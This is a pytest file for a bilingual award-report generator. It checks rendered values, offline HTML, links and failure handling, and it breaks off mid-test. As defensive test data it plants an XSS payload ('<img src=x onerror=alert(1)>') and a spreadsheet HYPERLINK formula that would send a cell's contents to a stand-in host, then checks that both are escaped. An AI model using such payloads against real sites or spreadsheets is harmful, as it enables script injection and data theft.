"""Province and national reports on a small generated season: values read back, both languages,
offline HTML, failure isolation."""

from __future__ import annotations

import hashlib
import json
import re
import shutil
from pathlib import Path

import nbformat
import pandas as pd
import papermill
import pytest
from bs4 import BeautifulSoup
from markupsafe import escape as esc

from conftest import small_season_tables, write_season
from paritrana_nb.cli import main
from paritrana_nb.engine import score_season
from paritrana_nb.gaps import cheapest_actions, describe_action, what_it_takes
from paritrana_nb.messages import FSI, PDI, Ref, isolate, t
from paritrana_nb.methodology import load_methodology
from paritrana_nb.reliability import jury_reliability
from paritrana_nb.report.export import find_external_references
from paritrana_nb.report.links import pages_not_linking
from paritrana_nb.report.pipeline import NATIONAL_NOTEBOOK, PROVINCE_NOTEBOOK, run_reports
from paritrana_nb.report.runner import result_outputs
from paritrana_nb.season import read_season
from paritrana_nb.uncertainty import DEFAULT_SEED
from scoring_fixtures import MARKUP_BUSINESS, write_warned_season

ROOT = Path(__file__).resolve().parents[2]
PARAMS = ROOT / "params"
XSS = "<img src=x onerror=alert(1)>"
DRAWS = 20  # Monte Carlo draws per report; the default (1,000) is rendered once, for province 61 in English
FORMULA = '=HYPERLINK("http://x/?d="&A2,"Klik")'


def season_with_markup_name(data_dir: Path) -> Path:
    """The small season, with one regency named like an injection attempt and one village like a formula."""
    tables = small_season_tables()
    wilayah = tables["wilayah"]
    wilayah.loc[wilayah["kode_wilayah"] == "61.10", "nama"] = XSS
    tables["desa"].loc[tables["desa"]["kode_desa"] == "61.04.02.2003", "nama"] = FORMULA
    return write_season(data_dir, tables)


def expected_podiums(data_dir: Path) -> dict[str, dict[str, list[list[object]]]]:
    season = read_season(2025, data_dir)
    scores = score_season(season, load_methodology(PARAMS / "2025" / "metodologi.yaml"))
    out: dict[str, dict[str, list[list[object]]]] = {}
    for (code, kategori), group in scores.peserta.groupby(["kelompok", "kategori"]):
        ranked = group[group["peringkat"] <= 3].sort_values(["peringkat", "id_peserta"])
        rows = [[int(r.peringkat), r.nama, r.skor_akhir if r.finalis else r.skor_dokumen] for r in ranked.itertuples()]
        out.setdefault(code, {})[kategori] = rows
    return out


@pytest.fixture(scope="module")
def rendered(tmp_path_factory: pytest.TempPathFactory) -> Path:
    base = tmp_path_factory.mktemp("laporan")
    season_with_markup_name(base / "data")
    outcome = run_reports(
        2025, base / "data", PARAMS, base / "reports", lang="id", n_jobs=2, progress=False, draws=DRAWS
    )
    assert not outcome.failed, [r.error for r in outcome.failed]
    english = run_reports(
        2025,
        base / "data",
        PARAMS,
        base / "reports",
        lang="en",
        provinces=["61"],
        national=False,
        n_jobs=1,
        progress=False,
    )  # the default draws
    assert not english.failed, [r.error for r in english.failed]
    return base


def _outputs(path: Path) -> dict[str, object]:
    return result_outputs(nbformat.read(path, as_version=4))


def test_province_values_match_the_engine(rendered: Path) -> None:
    expected = expected_podiums(rendered / "data")
    folder = rendered / "reports" / "2025"
    for stem, code in (("61-kalbar", "61"), ("65-kaltara", "65")):
        values = _outputs(folder / f"{stem}.ipynb")
        assert values["provinsi"] == code and values["lang"] == "id"
        podium = values["podium"]
        assert set(podium) == set(expected[code])
        for kategori, rows in expected[code].items():
            assert [r[:2] for r in podium[kategori]] == [r[:2] for r in rows]
            assert [r[2] for r in podium[kategori]] == pytest.approx([r[2] for r in rows])
    national = _outputs(folder / "nasional.ipynb")  # provincial governments, ranked by zone
    assert list(national["podium"]) == ["pemprov"] and list(national["podium"]["pemprov"]) == ["Kalimantan"]
    assert [r[:2] for r in national["podium"]["pemprov"]["Kalimantan"]] == [
        r[:2] for r in expected["Kalimantan"]["pemprov"]
    ]


def test_html_is_offline_escaped_and_code_free(rendered: Path) -> None:
    folder = rendered / "reports" / "2025"
    for page in ("61-kalbar.html", "65-kaltara.html", "nasional.html", "index.html", "61-kalbar.en.html"):
        html = (folder / page).read_text(encoding="utf-8")
        assert find_external_references(html) == [], page
        assert len(html.encode()) < 1.5 * 1024 * 1024
        assert XSS not in html
        assert "ProvinceReport" not in html and "injected-parameters" not in html and "metodologi =" not in html
    kalbar = (folder / "61-kalbar.html").read_text(encoding="utf-8")
    assert "&lt;img src=x onerror=alert(1)&gt;" in kalbar
    assert "DATA ILUSTRATIF" not in kalbar  # the small season does not declare itself illustrative
    assert "Lampiran: metodologi" in kalbar and "@media print" in kalbar


def test_languages_and_number_formats(rendered: Path) -> None:
    folder = rendered / "reports" / "2025"
    indonesian = (folder / "61-kalbar.html").read_text(encoding="utf-8")
    english = (folder / "61-kalbar.en.html").read_text(encoding="utf-8")
    assert "Peringkat 1" in indonesian and "Skor dokumen" in indonesian
    assert "1st place" in english and "Desk score" in english and "Skor dokumen" not in english
    assert re.search(r'data-value="[0-9.]+">\d{1,3},\d\d<', indonesian)  # 71,23
    assert re.search(r'data-value="[0-9.]+">\d{1,3}\.\d\d<', english)  # 71.23
    assert _outputs(folder / "61-kalbar.en.ipynb")["lang"] == "en"


def test_index_lists_every_report(rendered: Path) -> None:
    index = (rendered / "reports" / "2025" / "index.html").read_text(encoding="utf-8")
    for href in ("61-kalbar.html", "65-kaltara.html", "nasional.html"):
        assert f'href="{href}"' in index
    assert "GAGAL" not in index and "Laporan yang berhasil dibuat: 3 dari 3." in index


def test_reports_link_each_other_where_the_page_linked_is_there(rendered: Path) -> None:
    """Panel members move between reports by clicking only. The English run came after the Indonesian one: its report
    links the Indonesian page beside it; the Indonesian report, made when no English page was there, links none. The
    national report's nominees link each province's report of the same run, in its language."""
    folder = rendered / "reports" / "2025"

    def links(page: str) -> list[tuple[str, str, str]]:
        soup = BeautifulSoup((folder / page).read_text(encoding="utf-8"), "html.parser")
        return [(a.get_text(), a["href"], a.get("lang", "")) for a in soup.select("p.nav a")]

    back = t("report.same_report_language", "id")
    assert links("61-kalbar.en.html") == [
        (t("report.all_reports", "en"), "index.en.html", ""),
        (back, "61-kalbar.html", "id"),
    ]
    assert links("61-kalbar.html") == [(t("report.all_reports", "id"), "index.html", "")]
    assert links("65-kaltara.html") == links("61-kalbar.html")
    soup = BeautifulSoup((folder / "nasional.html").read_text(encoding="utf-8"), "html.parser")
    [nominees] = [h.find_next("table") for h in soup.find_all("h2") if h.get_text() == t("report.nominees_title", "id")]
    linked = {a.get_text(): a["href"] for a in nominees.select("tbody td:first-child a")}
    assert linked == {"Kalimantan Barat": "61-kalbar.html", "Kalimantan Utara": "65-kaltara.html"}
    for page in ["61-kalbar.html", *linked.values()]:  # every link leads to a page of the folder
        assert (folder / page).is_file()
    # what the terminal names after the English run: the Indonesian page made before it, not the English one
    assert pages_not_linking(folder, ["61-kalbar"], "en", "id") == [folder / "61-kalbar.html"]
    assert pages_not_linking(folder, ["61-kalbar"], "id", "en") == []


def test_index_links_each_reports_card_indexes_once_rapor_wrote_them(rendered: Path, tmp_path: Path) -> None:
    """The index linked the reports only; it knows each report's ranking groups, whose card indexes `paritrana rapor`
    writes later and links by writing the index again (refresh_index)."""
    import shutil

    from paritrana_nb.report.index_page import DATA_ID, refresh_index

    folder = tmp_path / "2025"
    shutil.copytree(rendered / "reports" / "2025", folder)
    page = (folder / "index.html").read_text(encoding="utf-8")
    [block] = re.findall(rf'<script type="application/json" id="{DATA_ID}">(.*?)</script>', page, re.S)
    cards = [e["cards"] for e in json.loads(block)["entries"]]  # kalbar, kaltara, then the national report
    assert cards == [
        [["61", f"diperingkat di {isolate('Kalimantan Barat')}"]],
        [["65", f"diperingkat di {isolate('Kalimantan Utara')}"]],
        [["Kalimantan", f"diperingkat di zona {isolate('Kalimantan')}"]],
    ]
    assert t("report.col_cards", "id") not in page  # no cards yet: nothing said of them
    (folder / "61").mkdir(exist_ok=True)
    (folder / "61" / "index.html").write_text("<html></html>", encoding="utf-8")
    refresh_index(folder, "id")
    page = (folder / "index.html").read_text(encoding="utf-8")
    assert '<a href="61/index.html"><bdi>diperingkat di <bdi>Kalimantan Barat</bdi></bdi></a>' in page


def test_one_failing_province_does_not_stop_the_others(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    season_with_markup_name(tmp_path / "data")
    out = tmp_path / "reports"
    args = [
        "run",
        "--season",
        "2025",
        "--all",
        "--data-dir",
        str(tmp_path / "data"),
        "--params-dir",
        str(PARAMS),
        "--out",
        str(out),
        "--jobs",
        "2",
        "--draws",
        str(DRAWS),
    ]
    assert main(args) == 0
    good_65 = (out / "2025" / "65-kaltara.html").read_bytes()
    good_61 = (out / "2025" / "61-kalbar.html").read_bytes()

    broken = nbformat.read(PROVINCE_NOTEBOOK, as_version=4)
    broken.cells.insert(3, nbformat.v4.new_code_cell("if provinsi == '65':\n    raise RuntimeError('sel rusak')"))
    custom = tmp_path / "laporan_rusak.ipynb"
    nbformat.write(broken, custom)
    assert main([*args, "--notebook", str(custom)]) == 1
    captured = capsys.readouterr()
    assert "65" in captured.err and "sel rusak" in captured.err and "Traceback" not in captured.out + captured.err
    assert "61-kalbar" in captured.out  # the report that worked is a result: standard output
    assert (out / "2025" / "65-kaltara.html").read_bytes() == good_65  # previous good report kept
    fresh_61 = (out / "2025" / "61-kalbar.html").read_bytes()  # rendered again, from the custom notebook
    assert fresh_61 != good_61 and b"Kalimantan Barat" in fresh_61
    assert (
        esc(
            t("report.footer_notebook", "id", file=custom.name, digest=hashlib.sha256(custom.read_bytes()).hexdigest())
        ).encode()
        in fresh_61
    )
    index = (out / "2025" / "index.html").read_text(encoding="utf-8")
    assert "GAGAL" in index and "sel rusak" in index
    assert (out / "2025" / "65-kaltara.failed.ipynb").exists()


def test_a_custom_notebook_without_a_kernel_name_is_run_in_the_kernel_of_the_run(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A customised notebook saved without `kernelspec` or `language_info` in its metadata (by a tool other than
    Jupyter, or its metadata stripped) failed every report with papermill's "ValueError: No kernel name found in
    notebook and no override provided" (or "No language found"): its cells run in the run's own Python kernel, as the
    bundled notebook's do."""
    season_with_markup_name(tmp_path / "data")
    custom = nbformat.read(PROVINCE_NOTEBOOK, as_version=4)
    custom.metadata = nbformat.from_dict({})  # no kernelspec, no language_info
    nbformat.write(custom, tmp_path / "laporan_saya.ipynb")
    folders = ["--data-dir", str(tmp_path / "data"), "--params-dir", str(PARAMS), "--out", str(tmp_path / "out")]
    args = [
        "run",
        "--province",
        "65",
        *folders,
        "--draws",
        str(DRAWS),
        "--notebook",
        str(tmp_path / "laporan_saya.ipynb"),
    ]
    assert main(args) == 0, capsys.readouterr().err
    assert (tmp_path / "out" / "2025" / "65-kaltara.html").is_file()


def test_invalid_data_stops_before_any_kernel(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    folder = season_with_markup_name(tmp_path / "data")
    desa = folder / "desa.csv"
    desa.write_text(desa.read_text().replace("Desa Liang Butan,65.03", "Desa Liang Butan,99.99"))
    code = main(
        [
            "run",
            "--season",
            "2025",
            "--all",
            "--data-dir",
            str(tmp_path / "data"),
            "--params-dir",
            str(PARAMS),
            "--out",
            str(tmp_path / "reports"),
        ]
    )
    assert code == 1
    assert "desa.csv" in capsys.readouterr().err
    assert not (tmp_path / "reports").exists()


def test_single_province_by_short_name(tmp_path: Path) -> None:
    season_with_markup_name(tmp_path / "data")
    code = main(
        [
            "run",
            "--season",
            "2025",
            "--province",
            "kaltara",
            "--lang",
            "en",
            "--draws",
            str(DRAWS),
            "--data-dir",
            str(tmp_path / "data"),
            "--params-dir",
            str(PARAMS),
            "--out",
            str(tmp_path / "r"),
        ]
    )
    assert code == 0
    assert (tmp_path / "r" / "2025" / "65-kaltara.en.html").exists()
    assert json.dumps(_outputs(tmp_path / "r" / "2025" / "65-kaltara.en.ipynb")["podium"])


def test_notebooks_in_git_have_no_outputs_and_document_parameters() -> None:
    for path in sorted((ROOT / "notebooks").glob("*.ipynb")):
        notebook = nbformat.read(path, as_version=4)
        nbformat.validate(notebook)
        code_cells = [c for c in notebook.cells if c.cell_type == "code"]
        assert all(not c.outputs and c.execution_count is None for c in code_cells), path
        parameters = [c for c in code_cells if "parameters" in c.metadata.get("tags", [])]
        assert len(parameters) == 1, path
        lines = [ln for ln in parameters[0].source.splitlines() if ln and not ln.startswith("#")]
        assert lines and all(re.match(r"^\w+: \w+ = .+  # .+", ln) for ln in lines), path
        inferred = papermill.inspect_notebook(str(path))
        assert {"musim", "data_dir", "params_dir", "lang"} <= set(inferred)
        assert all(p["help"] and p["inferred_type_name"] in ("int", "str", "bool") for p in inferred.values()), path


@pytest.mark.parametrize(
    ("notebook", "parameters", "said"),
    [
        ("laporan_provinsi.ipynb", {"lang": "en", "provinsi": "xx"}, "Province 'xx' is not known."),
        ("laporan_nasional.ipynb", {"lang": "fr"}, "Language 'fr' is not known; choose id, en."),
        ("rapor_peserta.ipynb", {"lang": "en", "id_peserta": 61.1}, "Parameter id_peserta = 61.1 must be text"),
        ("explore.ipynb", {"lang": "en", "musim": 2030}, "../params holds the methodologies of the seasons 2024, 2025"),
    ],
)
def test_a_bad_parameter_shows_its_message_alone_not_a_traceback(
    tmp_path: Path, notebook: str, parameters: dict[str, object], said: str
) -> None:
    """A notebook run with a bad parameter shows what is wrong and how to mend it, without the frames of the package
    and of Python's own files (with the machine's paths in them) that came before the message."""
    out = tmp_path / notebook
    with pytest.raises(papermill.PapermillExecutionError):
        papermill.execute_notebook(
            str(ROOT / "notebooks" / notebook),
            str(out),
            parameters=parameters,
            cwd=str(ROOT / "notebooks"),
            progress_bar=False,  # tqdm's monitor thread would outlive the test: later tests could not fork
        )
    outputs = [o for c in nbformat.read(out, as_version=4).cells for o in c.get("outputs", [])]
    errors = [o for o in outputs if o.output_type == "error"]
    assert len(errors) == 1
    shown = "\n".join(errors[0].traceback)
    assert said in shown
    assert "File " not in shown and "Traceback" not in shown and str(ROOT) not in shown.replace(str(ROOT / "data"), "")


def _notebook_error(notebook: str, parameters: dict[str, object], out: Path) -> str:
    """The one error `notebook` shows, run by papermill from the notebooks' folder with `parameters`."""
    with pytest.raises(papermill.PapermillExecutionError):
        papermill.execute_notebook(
            str(ROOT / "notebooks" / notebook),
            str(out / notebook),
            parameters=parameters,
            cwd=str(ROOT / "notebooks"),
            progress_bar=False,
        )
    outputs = [o for c in nbformat.read(out / notebook, as_version=4).cells for o in c.get("outputs", [])]
    [error] = [o for o in outputs if o.output_type == "error"]
    return "\n".join(error.traceback)


@pytest.mark.parametrize("methodology_there", [False, True])
def test_every_notebook_says_a_season_not_there_with_the_same_message(tmp_path: Path, methodology_there: bool) -> None:
    """The explorer looked for the season's folder first, the reports and the card for its methodology first: the
    same wrong musim was told two things. Each reads the methodology first, then the season, in the package
    (report.context.load_inputs): one message, the methodology's when it is missing too, else the folder's (the
    explorer's in its own words)."""
    params = "../params"
    if methodology_there:  # season 2030's methodology is there, its data folder is not
        shutil.copytree(PARAMS, tmp_path / "params")
        (tmp_path / "params" / "2030").mkdir()
        text = (PARAMS / "2025" / "metodologi.yaml").read_text(encoding="utf-8")
        (tmp_path / "params" / "2030" / "metodologi.yaml").write_text(text.replace("musim: 2025", "musim: 2030", 1))
        params = str(tmp_path / "params")
    said = {
        notebook: _notebook_error(notebook, {"musim": 2030, "lang": "en", "params_dir": params}, tmp_path)
        for notebook in ("explore.ipynb", "laporan_provinsi.ipynb", "laporan_nasional.ipynb", "rapor_peserta.ipynb")
    }
    if methodology_there:  # the explorer says it in its own words
        explorer = "There is no folder of season 2030 in ../data (the seasons there: 2024, 2025). Give one of them as"
        assert explorer in said.pop("explore.ipynb"), said
        expected = "../data holds the seasons 2024, 2025: give one of them with -p musim, or create ../data/2030"
    else:
        expected = "../params holds the methodologies of the seasons 2024, 2025: give one of them with -p musim"
    assert all(expected in message for message in said.values()), said
    assert len(set(said.values())) == 1, said


def test_full_ranking_csv_beside_each_report(rendered: Path) -> None:
    import pandas as pd

    season = read_season(2025, rendered / "data")
    scores = score_season(season, load_methodology(PARAMS / "2025" / "metodologi.yaml")).peserta
    mine = scores[(scores["kode_provinsi"] == "61") & (scores["kategori"] != "pemprov")]
    written = pd.read_csv(rendered / "reports" / "2025" / "61-kalbar.csv", dtype={"id_peserta": str})
    assert sorted(written["id_peserta"]) == sorted(mine["id_peserta"])
    ranks = dict(zip(mine["id_peserta"], mine["peringkat"].astype(float), strict=True))
    assert all(ranks[r.id_peserta] == r.peringkat for r in written.itertuples())
    names = dict(zip(written["id_peserta"], written["nama"], strict=True))
    assert names["61.04.02.2003"] == "'" + FORMULA  # shown as text, never run by a spreadsheet
    assert names["61.10"] == XSS
    assert not (rendered / "reports" / "2025" / "nasional.csv").exists()  # a CSV per province report only


def test_large_groups_show_finalists_and_top_ranks_only(monkeypatch: pytest.MonkeyPatch) -> None:
    from paritrana_nb.report import sections
    from paritrana_nb.report.context import prepare_season, province_context

    context = province_context(prepare_season(2025, ROOT / "data", PARAMS), "61")
    group = context.scores.peserta[context.scores.peserta["kategori"] == "desa"]
    monkeypatch.setattr(sections, "MAX_TABLE_ROWS", 3)
    ranking = sections.ranking_table(context, "desa", group, "en", "61-kalbar.csv")
    shown = len(ranking.table.rows)
    finalists = int(group["finalis"].sum())
    assert shown == len(group[group["finalis"] | (group.reset_index(drop=True).index < 3)])
    assert shown >= finalists and shown < len(group)
    assert f"{len(group) - shown} further" in ranking.hidden and "61-kalbar.csv" in ranking.hidden


@pytest.mark.parametrize("lang", ["id", "en"])
def test_a_large_group_of_a_run_links_the_full_ranking_csv_beside_its_report(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path, lang: str
) -> None:
    """Under a large group's ranking (5,897 rows not shown in the national season's Jawa Barat) the report named the
    CSV holding every rank as text: a panel member who opened the report offline had to look for it in the folder. A
    report of `paritrana run` (which writes the CSV beside it) links it; one run by hand, beside no CSV, names it.
    Printed, the link read "The full ranking: 61-kalbar.csv", nowhere said: paper names the file and its folder."""
    from dataclasses import replace

    from paritrana_nb.report import sections
    from paritrana_nb.report.context import prepare_season, province_context
    from paritrana_nb.templating import render

    by_hand = province_context(prepare_season(2025, ROOT / "data", PARAMS), "61")
    group = by_hand.scores.peserta[by_hand.scores.peserta["kategori"] == "desa"]
    monkeypatch.setattr(sections, "MAX_TABLE_ROWS", 3)
    for context, linked in ((by_hand, False), (replace(by_hand, cards=tmp_path), True)):
        part = sections.category_section(context, "desa", group, lang, "Desa", "61-kalbar.csv")
        page = render("report_categories.html.j2", lang, categories=[part], awards=[], empty="")
        hidden = esc(t("report.rows_hidden", lang, count=len(group) - len(part.ranking.table.rows)))
        link = '<a href="61-kalbar.csv">61-kalbar.csv</a>'
        assert (link in page) is linked and hidden in page
        where = esc(t("report.full_list_file", lang, file="61-kalbar.csv"))
        if linked:
            screen = f'<span class="screen-only">{hidden} {esc(t("report.full_list_link", lang))} {link}</span>'
            assert f'<p class="note">{screen}<span class="print-only">{hidden} {where}</span></p>' in page
        else:
            assert where in page and "print-only" not in page


def _intervals_tables(html: str) -> list[list[list[str]]]:
    soup = BeautifulSoup(html, "html.parser")
    return [
        [[td.get_text() for td in tr.find_all("td")] for tr in table.tbody.find_all("tr")]
        for table in soup.select("table.intervals")
    ]


def test_robustness_sections_in_both_languages(rendered: Path) -> None:
    folder = rendered / "reports" / "2025"
    for page, lang, draws in (
        ("61-kalbar.html", "id", DRAWS),
        ("61-kalbar.en.html", "en", 1000),
        ("nasional.html", "id", DRAWS),
    ):
        html = (folder / page).read_text(encoding="utf-8")
        for key in (
            "report.intervals_title",
            "report.sensitivity_title",
            "report.actions_title",
            "report.reliability_title",
        ):
            assert esc(t(key, lang)) in html, (page, key)
        assert esc(t("report.footer_seed", lang, draws=Ref("count.draws", count=draws), seed=DEFAULT_SEED)) in html
        notebook = NATIONAL_NOTEBOOK if page.startswith("nasional") else PROVINCE_NOTEBOOK
        assert (
            esc(
                t(
                    "report.footer_notebook",
                    lang,
                    file=notebook.name,
                    digest=hashlib.sha256(notebook.read_bytes()).hexdigest(),
                )
            )
            in html
        )
        alt = t("report.chart_alt_intervals", lang, title=t("report.intervals_title", lang))
        assert f'<img alt="{esc(alt)}" src="data:image/svg+xml;base64,' in html
    assert _outputs(folder / "61-kalbar.ipynb")["simulasi"] == {"undian": DRAWS, "seed": DEFAULT_SEED}
    assert _outputs(folder / "61-kalbar.en.ipynb")["simulasi"] == {"undian": 1000, "seed": DEFAULT_SEED}  # default


def test_every_report_links_back_to_its_seasons_index(rendered: Path) -> None:
    """A province or national report opened on its own was a dead end: it links to the index of its season's reports
    in its language, which the run wrote beside it."""
    folder = rendered / "reports" / "2025"
    pages = sorted(p for p in folder.glob("*.html") if not p.name.startswith("index"))
    assert {"61-kalbar.html", "61-kalbar.en.html", "nasional.html"} <= {p.name for p in pages}
    for page in pages:
        links = BeautifulSoup(page.read_text(encoding="utf-8"), "html.parser").select("p.nav a")
        index = "index.en.html" if page.name.endswith(".en.html") else "index.html"
        hrefs = [a["href"] for a in links]  # then the other language's page, where it is there (see above)
        assert hrefs[0] == index, page.name
        assert all((folder / href).is_file() for href in hrefs), page.name


def test_the_command_a_report_gives_for_every_interval_runs_as_written(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A report showing the first ranks' intervals gave `paritrana score --uncertainty 1000 --seed 20250` for the
    others, which stops at once for want of --out: the command it gives runs (from the folder holding data/), and
    writes the intervals of that group's participants."""
    shutil.copytree(ROOT / "data" / "2025", tmp_path / "data" / "2025", ignore=shutil.ignore_patterns(".cache"))
    done = run_reports(
        2025, tmp_path / "data", PARAMS, tmp_path / "reports", provinces=["62"], national=False, n_jobs=1,
        progress=False, draws=DRAWS,
    )  # fmt: skip
    assert not done.failed, [r.error for r in done.failed]
    page = (tmp_path / "reports" / "2025" / "62-kalteng.html").read_text(encoding="utf-8")
    commands = re.findall(r"rentang semua peserta: (paritrana score [^<]*?)\.<", page)
    assert commands  # the bundled season's Kalimantan Tengah has more villages than a report shows
    monkeypatch.chdir(tmp_path)
    for command in commands:
        words = command.split()
        assert words[:2] == ["paritrana", "score"] and "--out" in words, command
        assert main([*words[1:], "--params-dir", str(PARAMS)]) == 0, command
        scored = pd.read_csv(words[words.index("--out") + 1], dtype={"kode_provinsi": str})
        assert set(scored["kategori"]) == {words[words.index("--category") + 1]}
        assert set(scored["kode_provinsi"]) == {words[words.index("--province") + 1]} == {"62"}
        assert scored["peringkat_median"].notna().sum() > 20  # more than the report shows


def test_rank_intervals_match_the_score_command(rendered: Path, tmp_path: Path) -> None:
    """The report's interval table reads back as `paritrana score --uncertainty` with the same seed computes it."""
    out = tmp_path / "skor.csv"
    assert (
        main(
            [
                "score",
                "--data-dir",
                str(rendered / "data"),
                "--params-dir",
                str(PARAMS),
                "--province",
                "61",
                "--uncertainty",
                "1000",
                "--seed",
                str(DEFAULT_SEED),
                "--out",
                str(out),
            ]
        )
        == 0
    )
    scored = pd.read_csv(out, dtype={"id_peserta": str, "kode_provinsi": str})
    html = (rendered / "reports" / "2025" / "61-kalbar.en.html").read_text(encoding="utf-8")
    tables = _intervals_tables(html)
    categories = [k for k in ("pemda", "desa", "bu_besar_menengah", "bu_kecil_mikro") if k in set(scored["kategori"])]
    assert len(tables) == len(categories)
    for kategori, rows in zip(categories, tables, strict=True):
        group = scored[(scored["kategori"] == kategori) & scored["peringkat_median"].notna()].sort_values("peringkat")
        expected = [
            [
                str(int(r.peringkat)),
                str(int(r.peringkat_median)),
                str(int(r.peringkat_p05))
                if r.peringkat_p05 == r.peringkat_p95
                else f"{int(r.peringkat_p05)}–{int(r.peringkat_p95)}",
                f"{r.peringkat_stabil_pct:.2f}%",
            ]
            for r in group.itertuples()
        ]
        assert [[row[0], row[2], row[3], row[4]] for row in rows] == expected, kategori


def test_cheapest_actions_and_jury_agreement_read_back(rendered: Path) -> None:
    season = read_season(2025, rendered / "data")
    methodology = load_methodology(PARAMS / "2025" / "metodologi.yaml")
    scores = score_season(season, methodology)
    html = (rendered / "reports" / "2025" / "61-kalbar.en.html").read_text(encoding="utf-8")
    gaps = what_it_takes(season, methodology, scores, provinces=["61"], categories=["pemda"])
    finalists = gaps[gaps["finalis"].astype(bool)]
    assert len(finalists), "the fixture must give a finalist below first place"
    for row in cheapest_actions(finalists).to_dict("records"):
        assert str(esc(describe_action(row, "en", isolated=True))).replace(FSI, "<bdi>").replace(PDI, "</bdi>") in html
    jury = jury_reliability(season, methodology, scores, provinces=["61"])
    pemda = jury[jury["kategori"] == "pemda"].iloc[0]
    text = BeautifulSoup(html, "html.parser").get_text()
    assert f"Kendall's W = {pemda['kendall_w']:.2f}; ICC(2,k) = {pemda['icc2k']:.2f}" in text


def methodology_with_extra_categories(path: Path) -> Path:
    """The default methodology plus a sector category carved out of the businesses, a kelurahan category, large
    businesses ranked by zone, and special awards of every source."""
    import yaml

    data = yaml.safe_load((PARAMS / "2025" / "metodologi.yaml").read_text(encoding="utf-8"))
    small = data["kategori"]["bu_kecil_mikro"]
    desa = data["kategori"]["desa"]
    extra = {
        "bu_koperasi": {
            **small,
            "label": {"id": "Koperasi <b>", "en": "Cooperatives <b>"},
            "peserta": {"tabel": "badan_usaha", "sektor": ["Koperasi"]},
            "programmes_expected": ["jkk"],
        },
        "kelurahan": {
            **desa,
            "label": {"id": "Kelurahan", "en": "Urban wards"},
            "peserta": {"tabel": "desa", "jenis": ["kelurahan"]},
            "indicators": [i for i in desa["indicators"] if i["id"] in ("cakupan_desa", "perangkat")],
        },
    }
    data["kategori"] = {**extra, **data["kategori"]}
    data["kategori"]["bu_besar_menengah"]["kelompok"] = "zona"
    data["penghargaan_khusus"] += [
        {
            "id": "sinergi_terbaik",
            "label": {"id": "Sinergi terbaik", "en": "Best synergy"},
            "kategori": "pemda",
            "aturan": {"aspek": "sinergi", "terbesar": 1},
        },
        {
            "id": "pekerja_terbanyak",
            "label": {"id": "Pekerja terbanyak", "en": "Most workers"},
            "kategori": "bu_besar_menengah",
            "aturan": {"kolom": "jumlah_pekerja", "terbesar": 1},
        },
        {
            "id": "tanpa_tunggakan",
            "label": {"id": "Tanpa tunggakan", "en": "No arrears"},
            "kategori": "bu_koperasi",
            "aturan": {"indikator": "tertib_iuran", "minimal": 100},
        },
    ]
    path.write_text(yaml.safe_dump(data, sort_keys=False, allow_unicode=True), encoding="utf-8")
    return path


def test_reports_from_a_methodology_with_extra_categories_zones_and_awards(tmp_path: Path) -> None:
    season_with_markup_name(tmp_path / "data")
    methodology = methodology_with_extra_categories(tmp_path / "lain.yaml")
    outcome = run_reports(
        2025,
        tmp_path / "data",
        PARAMS,
        tmp_path / "reports",
        lang="en",
        metodologi=methodology,
        n_jobs=2,
        progress=False,
        draws=DRAWS,
    )
    assert not outcome.failed, [r.error for r in outcome.failed]
    folder = tmp_path / "reports" / "2025"
    kalbar = (folder / "61-kalbar.en.html").read_text(encoding="utf-8")
    text = BeautifulSoup(kalbar, "html.parser").get_text()
    # the cooperative is carved out of the small businesses; the kelurahan has its own category
    assert "Cooperatives <b>" in text and "Koperasi Lanting Raya (fiktif)" in text and "Urban wards" in text
    assert "Cooperatives &lt;b&gt;" in kalbar and "Cooperatives <b>" not in kalbar  # labels escaped too
    assert "Kelurahan Benuamelayu Laut" in text and "Large and medium businesses" not in text.split("Special awards")[0]
    podium = _outputs(folder / "61-kalbar.en.ipynb")["podium"]
    assert set(podium) == {"bu_koperasi", "kelurahan", "pemda", "desa"}
    assert [r[1] for r in podium["bu_koperasi"]] == ["Koperasi Lanting Raya (fiktif)"]
    assert "Best synergy (Regency/city governments)" in text and "No arrears (Cooperatives <b>)" in text
    national = (folder / "nasional.en.html").read_text(encoding="utf-8")
    national_text = BeautifulSoup(national, "html.parser").get_text()
    assert "Large and medium businesses — Zone Kalimantan" in national_text
    assert "Provincial governments — Zone Kalimantan" in national_text
    assert "Most workers (Large and medium businesses)" in national_text and "PT Sawit Makmur" in national_text
    values = _outputs(folder / "nasional.en.ipynb")
    assert set(values["podium"]) == {"bu_besar_menengah", "pemprov"}
    assert values["podium"]["bu_besar_menengah"]["Kalimantan"][0][1] == "PT Sawit Makmur"
    for key in ("report.intervals_title", "report.sensitivity_title", "report.actions_title"):
        assert esc(t(key, "en")) in national
    index = (folder / "index.en.html").read_text(encoding="utf-8")
    assert "Best synergy" in index and "Most workers" in index and "Cooperatives &lt;b&gt;" in index
    for page in ("61-kalbar.en.html", "65-kaltara.en.html", "nasional.en.html", "index.en.html"):
        assert find_external_references((folder / page).read_text(encoding="utf-8")) == [], page


def test_the_reports_list_the_season_s_warnings_in_both_languages(tmp_path: Path) -> None:
    """A category no participant is in and a `sektor` value no row holds were told by `paritrana validate` alone: a
    panel member reading the reports could not see them. The province's report and the national one list them, as
    validate words them, in the report's language, a name holding markup shown as text."""
    data, params = write_warned_season(tmp_path)
    for lang in ("id", "en"):
        outcome = run_reports(
            2025, data, params, tmp_path / "reports", lang=lang, provinces=["65"], n_jobs=1, progress=False, draws=DRAWS
        )
        assert not outcome.failed, [r.error for r in outcome.failed]
    said = {
        "id": (
            "kunci 'kategori.bu_tambang.peserta': Kategori bu_tambang tidak punya peserta",
            "kunci 'kategori.bu_kecil_mikro.peserta.sektor[1]': Nilai sektor 'perdagangn' pada kategori bu_kecil_mikro",
            f"badan_usaha.csv, baris 5, kolom 'npp': Peserta '1012345604' ({MARKUP_BUSINESS}) tidak cocok",
        ),
        "en": (
            "key 'kategori.bu_tambang.peserta': Category bu_tambang has no participant",
            "key 'kategori.bu_kecil_mikro.peserta.sektor[1]': The sektor value 'perdagangn' of category bu_kecil_mikro",
            f"badan_usaha.csv, row 5, column 'npp': Participant '1012345604' ({MARKUP_BUSINESS}) matches no category",
        ),
    }
    folder = tmp_path / "reports" / "2025"
    for page, lang in (
        ("65-kaltara.html", "id"),
        ("nasional.html", "id"),
        ("65-kaltara.en.html", "en"),
        ("nasional.en.html", "en"),
    ):
